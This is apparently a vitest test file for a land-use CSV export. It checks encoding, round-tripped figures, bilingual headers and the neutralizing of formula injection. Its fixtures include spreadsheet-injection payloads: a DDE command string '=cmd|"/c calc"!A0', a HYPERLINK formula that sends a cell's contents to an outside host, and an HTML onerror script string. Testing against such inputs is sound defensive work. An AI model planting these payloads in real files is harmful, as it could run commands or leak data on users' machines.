import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { LandUseTable } from '../../../src/analysis/land-use-types.ts';
import { BYTE_ORDER_MARK, landUseTableToCsv, numberCell, textCell } from '../../../src/export/csv.ts';
import { convertArea } from '../../../src/geo/units.ts';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '<img src=x onerror=alert(1)>',
  'say "hello", then, leave',
  'two\r\nlines\nhere',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tTAB',
  'Lot #3',
  '# not a comment',
];

function deepFreeze<T>(value: T): T {
  if (value && typeof value === 'object') {
    for (const inner of Object.values(value)) deepFreeze(inner);
    Object.freeze(value);
  }
  return value;
}

/** Areas with many digits, a null key and null green figures: what real tables hold. */
const TABLE: LandUseTable = deepFreeze({
  source: { kind: 'imported', layerId: 'layer-1' },
  groupedBy: 'landuse',
  rows: [
    { key: '工业用地', areaM2: 1234567.8912345678, share: 0.4123456789012345, count: 12, greenAreaM2: 23456.789012345, greenSpaceRatio: 0.0190001234567 },
    { key: null, areaM2: 987654.3210987, share: 0.3298765432109876, count: 3, greenAreaM2: null, greenSpaceRatio: null },
    ...HOSTILE_NAMES.map((key, index) => ({
      key,
      areaM2: 1000.1 + index / 3,
      share: (1000.1 + index / 3) / 2994000.123,
      count: 1,
      greenAreaM2: 0,
      greenSpaceRatio: 0,
    })),
    { key: '微小', areaM2: 1.5e-7, share: 5e-14, count: 1, greenAreaM2: null, greenSpaceRatio: null },
  ],
  totalAreaM2: 2994000.123,
  denominatorM2: 2994000.123,
  denominator: { zh: '所有类别面积之和', en: 'sum of all categories' },
  method: { zh: 'WGS84 椭球面积，按类别求和。', en: 'WGS84 ellipsoidal area, summed per category, with commas.' },
  notes: [
    { zh: '重叠要素在各类别中分别计入。', en: 'Overlapping features count in each category.' },
    { zh: '文件名 "a,b"\n换行', en: 'file "a,b"\nnewline' },
  ],
  featureCount: 27,
  skipped: { points: 2, lines: 1, nullGeometries: 4 },
});

type Record = { [column: string]: string };

function parseBack(text: string): Record[] {
  return parse(text, { bom: true, comment: '#', columns: true, skip_empty_lines: true }) as Record[];
}

describe('land-use table as CSV', () => {
  const zh = landUseTableToCsv(TABLE, { language: 'zh', sourceTitle: '=cmd|"/c calc"!A0 导入.geojson' });
  const en = landUseTableToCsv(TABLE, { language: 'en', sourceTitle: 'parcels.geojson' });

  it('starts with a UTF-8 byte-order mark and ends every record with CRLF', () => {
    expect(zh.startsWith(BYTE_ORDER_MARK)).toBe(true);
    expect(new TextEncoder().encode(zh).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(zh.endsWith('\r\n')).toBe(true);
    // Every LF outside a quoted cell is preceded by CR: parse with CRLF as the only record delimiter.
    const strict = parse(zh, { bom: true, comment: '#', record_delimiter: '\r\n', relax_column_count: false });
    expect(strict.length).toBe(TABLE.rows.length + 1);
  });

  it('reads back, with csv-parse, to exactly the table figures in every unit', () => {
    const records = parseBack(en);
    expect(records).toHaveLength(TABLE.rows.length);
    records.forEach((record, index) => {
      const row = TABLE.rows[index]!;
      expect(Number(record['area (m²)'])).toBe(row.areaM2);
      expect(Number(record['area (ha)'])).toBe(convertArea(row.areaM2, 'm2', 'ha'));
      expect(Number(record['area (km²)'])).toBe(convertArea(row.areaM2, 'm2', 'km2'));
      expect(Number(record['area (mu, 亩)'])).toBe(convertArea(row.areaM2, 'm2', 'mu'));
      expect(Number(record['share (0–1)'])).toBe(row.share);
      expect(Number(record['features'])).toBe(row.count);
      expect(record['green area (m²)']).toBe(row.greenAreaM2 === null ? '' : String(row.greenAreaM2));
      expect(record['green-space ratio (0–1)']).toBe(row.greenSpaceRatio === null ? '' : String(row.greenSpaceRatio));
    });
  });

  it('heads the columns in the chosen language', () => {
    expect(Object.keys(parseBack(zh)[0]!)).toEqual([
      '类别', '面积（m²）', '面积（公顷）', '面积（km²）', '面积（亩）', '占比（0–1）', '要素数', '绿地面积（m²）', '绿地率（0–1）', '类别取值',
    ]);
    expect(parseBack(zh)[1]!['类别']).toBe('（无此属性）');
    expect(parseBack(en)[1]!['category']).toBe('(no value)');
    expect(parseBack(zh)[1]!['类别取值']).toBe('');
  });

  it('writes the category\'s shown name and, beside it, the value the data holds', () => {
    const text = landUseTableToCsv(TABLE, { language: 'en', sourceTitle: 'zone', categoryName: (key) => (key === null ? '(no value)' : `name of ${key}`) });
    const records = parseBack(text);
    expect(records.map((record) => record['category'])).toEqual(
      TABLE.rows.map((row) => (row.key === null ? '(no value)' : `name of ${row.key}`)).map((name) => (/^[=+\-@\t\r\n]/.test(name) ? `'${name}` : name)),
    );
    expect(records.map((record) => record['category value'])).toEqual(TABLE.rows.map((row) => (row.key !== null && /^[=+\-@\t\r\n]/.test(row.key) ? `'${row.key}` : (row.key ?? ''))));
  });

  it('keeps hostile names as text: formulas neutralised by an apostrophe, quotes, commas, newlines and # intact', () => {
    const categories = parseBack(zh).map((record) => record['类别']!);
    for (const name of HOSTILE_NAMES) {
      const startsLikeFormula = /^[=+\-@\t\r\n]/.test(name);
      expect(categories).toContain(startsLikeFormula ? `'${name}` : name);
    }
    // No cell that a spreadsheet reads starts with a formula character, except numbers.
    const cells = (parse(zh, { bom: true, relax_column_count: true }) as string[][]).flat();
    for (const cell of cells) {
      if (/^[=+\-@\t\r\n]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
  });

  it('puts source, grouping, denominator, total, method and notes in # records before the header', () => {
    const records = parse(zh, { bom: true, relax_column_count: true }) as string[][];
    const caption = new Map(records.filter((record) => record[0]!.startsWith('#')).map((record) => [record[0]!, record.slice(1)]));
    expect(caption.get('# 来源')).toEqual([`'=cmd|"/c calc"!A0 导入.geojson`]);
    expect(caption.get('# 分组依据')).toEqual(['landuse']);
    expect(caption.get('# 占比分母（m²）')).toEqual(['2994000.123', '所有类别面积之和']);
    expect(caption.get('# 合计面积（m²）')).toEqual(['2994000.123']);
    expect(caption.get('# 方法')).toEqual(['WGS84 椭球面积，按类别求和。']);
    expect(caption.get('# 未计面积（点、线、空几何）')).toEqual(['2', '1', '4']);
    const notes = records.filter((record) => record[0] === '# 注').map((record) => record[1]);
    // A line break in caption text becomes a space: comment-skipping parsers end a comment at the line end.
    expect(notes).toEqual(['重叠要素在各类别中分别计入。', '文件名 "a,b" 换行']);
    const headerIndex = records.findIndex((record) => record[0] === '类别');
    expect(records.slice(0, headerIndex).every((record) => record[0]!.startsWith('#'))).toBe(true);
  });

  it('names the usual groupings in words and a property by its own name', () => {
    const byKind = landUseTableToCsv({ ...TABLE, groupedBy: 'kind' }, { language: 'zh', sourceTitle: 'zone' });
    expect(byKind).toContain('# 分组依据,"类型（kind）"');
  });
});

describe('CSV cells', () => {
  it('writes numbers with every digit and no quotes, and nothing for a missing figure', () => {
    expect(numberCell(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(numberCell(null)).toBe('');
    expect(numberCell(Number.NaN)).toBe('');
  });

  it('quotes every text cell so a # or a comma inside never changes the record', () => {
    expect(textCell('a#b')).toBe('"a#b"');
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('=1+1')).toBe(`"'=1+1"`);
    expect(textCell('')).toBe('""');
  });
});
